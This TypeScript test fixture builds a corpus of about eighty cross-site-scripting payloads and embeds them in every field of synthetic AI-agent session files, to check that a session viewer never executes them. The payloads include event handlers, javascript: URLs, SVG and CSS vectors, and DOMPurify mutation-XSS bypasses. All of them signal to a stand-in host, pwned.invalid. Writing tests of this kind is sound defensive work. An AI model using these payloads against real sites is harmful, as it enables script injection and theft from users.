/**
 * Script-injection payloads for the browser tests, and session files that carry them in every field a view shows.
 *
 * Every payload says so observably when it runs: it calls `window.__pwned("<id>")` (the spec exposes that
 * function), opens an `alert("<id>")`, sets `document.title` to its id, or loads `https://pwned.invalid/<id>`
 * (the spec aborts and counts requests to other origins). A payload that runs anywhere fails the spec with its id.
 */
import {
  assistant,
  bash,
  branchSummary,
  compaction,
  customMessage,
  entry,
  header,
  image,
  label,
  modelChange,
  session,
  text,
  thinking,
  thinkingChange,
  toolCall,
  toolResult,
  user,
} from "../../support/build.ts";

/** The host every request-based payload loads from: it never resolves (RFC 2606), and the spec aborts it anyway. */
export const PWNED_HOST = "pwned.invalid";

export interface InjectionPayload {
  /** Unique, and part of every signal the payload gives when it runs. */
  readonly id: string;
  /** What it tries, for the report when it runs. */
  readonly what: string;
  readonly text: string;
  /**
   * Whether it is markup that is active as it is, put into a page with `innerHTML` (the control test checks the
   * watch catches each such one). The others need a markdown renderer, a template engine, a parse-serialise-parse
   * round (mutation XSS), or a whole document (`<body>`, `<frameset>`).
   */
  readonly raw: boolean;
}

const run = (id: string) => `__pwned('${id}')`;
const url = (id: string) => `https://${PWNED_HOST}/${id}`;
/** A data: URL of an HTML document that reports `id` by loading from the pwned host (it has no `__pwned`). */
const htmlDataUrl = (id: string) => `data:text/html,${encodeURIComponent(`<script>fetch('${url(id)}')</script>`)}`;

const MAKERS: readonly (readonly [what: string, make: (id: string) => string])[] = [
  // Classic script and event handlers.
  ["script element", (id) => `<script>${run(id)}</script>`],
  ["script with a foreign src", (id) => `<script src="${url(id)}.js"></script>`],
  ["img onerror", (id) => `<img src=x onerror="${run(id)}">`],
  ["img onerror, handler entity-encoded", (id) => `<img src=x onerror="&#95;&#95;pwned('${id}')">`],
  ["svg onload", (id) => `<svg onload="${run(id)}"><circle r="1"/></svg>`],
  ["body onload", (id) => `<body onload="${run(id)}">`],
  ["details ontoggle", (id) => `<details open ontoggle="${run(id)}"><summary>s</summary>x</details>`],
  ["video onerror", (id) => `<video src="x" onerror="${run(id)}"></video>`],
  ["video source onerror", (id) => `<video><source src="x" onerror="${run(id)}"></video>`],
  ["audio autoplay from another origin", (id) => `<audio src="${url(id)}" autoplay></audio>`],
  ["input autofocus onfocus", (id) => `<input autofocus onfocus="${run(id)}">`],
  ["marquee onstart", (id) => `<marquee onstart="${run(id)}">m</marquee>`],
  ["anchor onclick", (id) => `<a href="#" onclick="${run(id)}">click</a>`],
  ["frameset onload", (id) => `<frameset onload="${run(id)}"></frameset>`],
  ["alert in onerror", (id) => `<img src=y onerror="alert('${id}')">`],
  ["document.title in onerror", (id) => `<img src=z onerror="document.title='${id}'">`],
  // URLs with a script scheme.
  ["markdown link to javascript:", (id) => `[click me](javascript:${run(id)})`],
  ["markdown link, mixed-case scheme", (id) => `[click me](JaVaScRiPt:${run(id)})`],
  ["markdown link in angle brackets", (id) => `[click me](<javascript:${run(id)}>)`],
  ["markdown image from javascript:", (id) => `![pic](javascript:${run(id)})`],
  ["markdown autolink with javascript:", (id) => `<javascript:${run(id)}>`],
  ["markdown reference link", (id) => `See [the docs][ref].\n\n[ref]: javascript:${run(id)} "docs"`],
  ["markdown link to a data: HTML page", (id) => `[open](${htmlDataUrl(id)})`],
  ["markdown link to vbscript:", (id) => `[vb](vbscript:msgbox("${id}"))`],
  ["anchor with entity-encoded scheme", (id) => `<a href="&#106;avascript:${run(id)}">encoded</a>`],
  ["anchor with a tab in the scheme", (id) => `<a href="jav&#x09;ascript:${run(id)}">tab</a>`],
  ["anchor with &colon;", (id) => `<a href="javascript&colon;${run(id)}">colon</a>`],
  ["anchor with leading space", (id) => `<a href=" javascript:${run(id)}">space</a>`],
  ["anchor to a data: HTML page", (id) => `<a href="${htmlDataUrl(id)}">data</a>`],
  ["math href", (id) => `<math href="javascript:${run(id)}"><mi>x</mi></math>`],
  // SVG.
  ["svg script", (id) => `<svg><script>${run(id)}</script></svg>`],
  ["svg foreignObject", (id) => `<svg><foreignObject><img src=x onerror="${run(id)}"></foreignObject></svg>`],
  ["svg xlink:href", (id) => `<svg><a xlink:href="javascript:${run(id)}"><text y="10">svg link</text></a></svg>`],
  ["svg animate onbegin", (id) => `<svg><animate onbegin="${run(id)}" attributeName="x" dur="1s"/></svg>`],
  ["svg image from another origin", (id) => `<svg><image href="${url(id)}"/></svg>`],
  ["svg style holding markup", (id) => `<svg><style><img src=x onerror="${run(id)}"></style></svg>`],
  // Frames, objects, document-level elements.
  ["iframe src javascript:", (id) => `<iframe src="javascript:parent.${run(id)}"></iframe>`],
  ["iframe srcdoc", (id) => `<iframe srcdoc="<script>parent.${run(id)}</script>"></iframe>`],
  ["iframe from another origin", (id) => `<iframe src="${url(id)}"></iframe>`],
  ["object data: HTML", (id) => `<object data="${htmlDataUrl(id)}"></object>`],
  ["object from another origin", (id) => `<object data="${url(id)}"></object>`],
  ["embed src", (id) => `<embed src="${url(id)}">`],
  ["meta refresh", (id) => `<meta http-equiv="refresh" content="0;url=${url(id)}">`],
  ["base href", (id) => `<base href="${url(id)}/">`],
  [
    "form action with autofocus submit",
    (id) => `<form action="${url(id)}"><button autofocus onfocus="this.form.submit()">go</button></form>`,
  ],
  ["button formaction", (id) => `<form><button formaction="javascript:${run(id)}">go</button></form>`],
  ["input type=image", (id) => `<input type="image" src="${url(id)}">`],
  ["img srcset", (id) => `<img srcset="${url(id)} 1x" alt="s">`],
  ["img protocol-relative", (id) => `<img src="//${PWNED_HOST}/${id}">`],
  ["link stylesheet", (id) => `<link rel="stylesheet" href="${url(id)}.css">`],
  ["link prefetch", (id) => `<link rel="prefetch" href="${url(id)}">`],
  ["table background", (id) => `<table background="${url(id)}"><tr><td>t</td></tr></table>`],
  // CSS.
  ["style attribute url()", (id) => `<div style="background:url(${url(id)})">css</div>`],
  ["style attribute url(javascript:)", (id) => `<div style="background-image:url(javascript:${run(id)})">css</div>`],
  ["style attribute expression()", (id) => `<div style="width:expression(${run(id)})">css</div>`],
  ["style element @import", (id) => `<style>@import url(${url(id)}.css);</style>`],
  ["style element behavior", (id) => `<p style="behavior:url(${url(id)})">b</p>`],
  // Mutation XSS and parser confusion.
  ["noscript attribute", (id) => `<noscript><p title="</noscript><img src=x onerror=${run(id)}>"></noscript>`],
  ["template holding a script", (id) => `<template><script>${run(id)}</script></template>`],
  [
    "form/math mglyph (DOMPurify 2.0.0)",
    (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run(id)}>`,
  ],
  [
    "math mtext table mglyph (DOMPurify 2.0.17)",
    (id) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${run(id)}&gt;">`,
  ],
  ["svg/p namespace confusion", (id) => `<svg></p><style><a id="</style><img src=1 onerror=${run(id)}>">`],
  ["select/template/style", (id) => `<select><template><style><img src=x onerror="${run(id)}">`],
  ["closing textarea", (id) => `</textarea><img src=x onerror="${run(id)}">`],
  ["closing style and title", (id) => `</style></title><img src=x onerror="${run(id)}">`],
  ["comment trick", (id) => `<!--<img src="--><img src=x onerror=${run(id)}//">`],
  ["xmp attribute", (id) => `<xmp><p title="</xmp><img src=x onerror=${run(id)}>">`],
  ["CDATA section", (id) => `<![CDATA[><img src=x onerror=${run(id)}>]]>`],
  // Markdown-specific.
  ["HTML block between blank lines", (id) => `<div>\n\n<img src=x onerror="${run(id)}">\n\n</div>`],
  ["code span that closes early", (id) => `\`code</code><img src=x onerror="${run(id)}">\``],
  ["fence info string", (id) => `\`\`\`x" onmouseover="${run(id)}\nbody\n\`\`\``],
  ["image title attribute", (id) => `![a](${url(id)} "t\\" onerror=\\"${run(id)}")`],
  ["link title attribute", (id) => `[a](#top "t\\" onmouseover=\\"${run(id)}")`],
  // Template syntax, if anything evaluated text as a template.
  ["Svelte {@html}", (id) => `{@html '<img src=x onerror=${run(id)}>'}`],
  ["Angular-style constructor call", (id) => `{{constructor.constructor("${run(id)}")()}}`],
  ["template literal", (id) => `\${${run(id)}}`],
  // Unicode, length, and quoting.
  ["RTL override around markup", (id) => `\u202E<img src=x onerror="${run(id)}">\u202D`],
  ["zero-width space in the scheme", (id) => `[zw](java\u200Bscript:${run(id)})`],
  ["very long attribute", (id) => `<img src=x title="${"A".repeat(4_000)}" onerror="${run(id)}">`],
  ["JSON-breaking quotes", (id) => `"}]}\\"</script><script>${run(id)}</script>`],
  ["escaped markup in a JSON string", (id) => `\\u003cscript\\u003e${run(id)}\\u003c/script\\u003e`],
];

/** Markup that does nothing when put into a page as it is (see `InjectionPayload.raw`). */
const NOT_RAW = new Set([
  "body onload",
  "frameset onload",
  "markdown autolink with javascript:",
  "template holding a script",
  "form/math mglyph (DOMPurify 2.0.0)",
  "math mtext table mglyph (DOMPurify 2.0.17)",
  "select/template/style",
]);

/** The corpus: one payload per maker, ids x01, x02, … */
export const INJECTION_PAYLOADS: readonly InjectionPayload[] = MAKERS.map(([what, make], i) => {
  const id = `x${String(i + 1).padStart(2, "0")}`;
  const text = make(id);
  return { id, what, text, raw: /^[<"]/.test(text) && !NOT_RAW.has(what) };
});

/** A fake OpenAI key in the right shape, made at run time, so the share review has a known-format secret to list. */
const FAKE_KEY = `sk-proj-${Array.from({ length: 64 }, (_, i) => "Qx7Rb2Kd9Mw4Tn6Hp3Vz8Lc5Gj1Fs0Ye"[(i * 7) % 32]).join("")}`;

export const MAIN_SESSION_ID = "inj-main";

/** A tool result of `toolName` (the builder's results are all of read). */
function resultOf(toolName: string, ...args: Parameters<typeof toolResult>): Record<string, unknown> {
  const result = toolResult(...args);
  return { ...result, message: { ...(result["message"] as Record<string, unknown>), toolName } };
}

/**
 * A session that carries the payloads in every field a view shows. One round of entries per payload (so each is
 * rendered as markdown on its own, where a payload left open would otherwise swallow the next): a user message, an
 * assistant turn (thinking, text, a tool call named by the payload with it in its arguments; every seventh from a
 * model whose provider and id are the payload), the tool result, an extension message of that custom type, and a
 * label on the user message. Then entries holding all payloads at once (one per paragraph, in fields shown as
 * text, and in the summaries): custom-role messages, a custom entry, bash executions, secrets (passwords that are
 * payloads), a compaction and a branch summary, an unanswered tool call and a result that answers no call (the
 * validator names both), unknown entry types, roles and fields, a dangling parent, and a side branch whose model
 * and thinking level are payloads.
 */
export function injectionSession(payloads: readonly InjectionPayload[] = INJECTION_PAYLOADS): string {
  const all = payloads.map((p) => p.text).join("\n\n");
  const lines: (Record<string, unknown> | string)[] = [
    header({ id: MAIN_SESSION_ID, cwd: all }),
    modelChange("m0", null, "anthropic", "claude-sonnet-4-5"),
    entry("session_info", "si", "m0", { name: payloads[0]!.text }),
    thinkingChange("tl", "si", "medium"),
  ];
  let parent = "tl";
  payloads.forEach((p, i) => {
    const hostileModel = i % 7 === 6;
    lines.push(
      user(`u${i}`, parent, i % 10 === 3 ? [text(p.text), image("iVBORw0KGgo=", p.text)] : [text(p.text)]),
      assistant(
        `a${i}`,
        `u${i}`,
        [
          thinking(p.text, `sig-${i}`),
          text(p.text),
          toolCall(`call_${i}`, p.text, { command: p.text, [p.id]: p.text }),
        ],
        hostileModel ? { provider: p.text, model: p.text } : {},
      ),
      resultOf(p.text, `r${i}`, `a${i}`, `call_${i}`, [text(p.text)], i % 4 === 1),
      customMessage(`c${i}`, `r${i}`, p.text, [text(p.text)], i % 2 === 0),
      label(`l${i}`, `c${i}`, `u${i}`, p.text),
    );
    parent = `l${i}`;
  });
  const quotable = payloads.filter((p) => !/["\n]/.test(p.text)).slice(0, 6);
  const secrets = [`Deploy with ${FAKE_KEY} please.`, ...quotable.map((p, i) => `SECRET_${i}_PASSWORD="${p.text}"`)];
  // Custom-role messages (an extension's own role) of payload types: the rules panel lists each type.
  payloads.slice(17, 22).forEach((p, k) => {
    const message = { role: "custom", customType: p.text, content: p.text, display: true, timestamp: 1 };
    lines.push(entry("message", `cr${k}`, parent, { message }));
    parent = `cr${k}`;
  });
  lines.push(
    entry("custom", "cu", parent, { customType: all.slice(0, 200), data: { note: all } }),
    bash("b1", "cu", all, all, { exitCode: 1, fullOutputPath: payloads[1]!.text }),
    bash("b2", "b1", payloads[2]!.text, payloads[3]!.text, { excludeFromContext: true }),
    user("sec", "b2", secrets.join("\n")),
    { ...compaction("cp", "sec", "u0", all), details: { readFiles: [all], modifiedFiles: [payloads[4]!.text] } },
    branchSummary("bs", "cp", "sideU", all),
    assistant("orph", "bs", [text("One more call."), toolCall(payloads[5]!.text, all, { path: all })]),
    resultOf(payloads[7]!.text, "stray", "orph", `stray ${payloads[6]!.text}`, [text(all)]),
  );
  // Unknown and damaged entries, hanging off the unanswered call so that they are not on the default path.
  lines.push(
    ...payloads.slice(0, 5).map((p, k) => entry(p.text, `unk${k}`, "orph", { [p.text]: p.text })),
    { ...user("uf", "orph", "an unknown field"), [payloads[8]!.text]: payloads[9]!.text },
    entry("message", "ur", "orph", { message: { role: payloads[10]!.text, content: payloads[11]!.text } }),
    user("dp", `missing ${payloads[12]!.text}`, "a dangling parent"),
    entry("model_change", "mbad", "orph", { provider: payloads[13]!.text }),
  );
  // The side branch: a model and a thinking level that are payloads.
  lines.push(
    user("sideU", "tl", "SIDE-BRANCH: the other way"),
    modelChange("sideM", "sideU", payloads[14]!.text, payloads[15]!.text),
    assistant("sideA", "sideM", "SIDE-MODEL answer", { provider: payloads[14]!.text, model: payloads[15]!.text }),
    thinkingChange("sideT", "sideA", payloads[16]!.text),
    user("sideZ", "sideT", "SIDE-THINKING question"),
  );
  lines.push(user("last", "stray", [text(payloads.at(-1)!.text), text("THE-END")]));
  return session(...lines);
}

/** A tiny session per payload: its name, id, working directory, first message and the session it was forked from. */
export function namedSession(p: InjectionPayload): string {
  return session(
    header({ id: `named-${p.id} ${p.text}`, cwd: p.text, parentSession: `/sessions/${MAIN_SESSION_ID}.jsonl` }),
    entry("session_info", "n1", null, { name: p.text }),
    user("n2", "n1", [text(p.text)]),
  );
}

/**
 * A damaged session whose diagnostics quote every payload: per payload, a line of that entry type without an id
 * (two warnings name the type), two entries that share the payload as their id, and a line that is not JSON.
 */
export function damagedSession(payloads: readonly InjectionPayload[] = INJECTION_PAYLOADS): string {
  const lines: (Record<string, unknown> | string)[] = [header({ id: "inj-damaged", cwd: "/damaged" })];
  for (const p of payloads) {
    lines.push(
      { type: p.text, parentId: null, timestamp: "2026-01-01T00:00:00.000Z" },
      user(p.text, null, "first with this id"),
      user(p.text, null, "second with this id"),
      `{"type": "message", "broken": ${JSON.stringify(p.text)}`,
    );
  }
  return session(...lines);
}
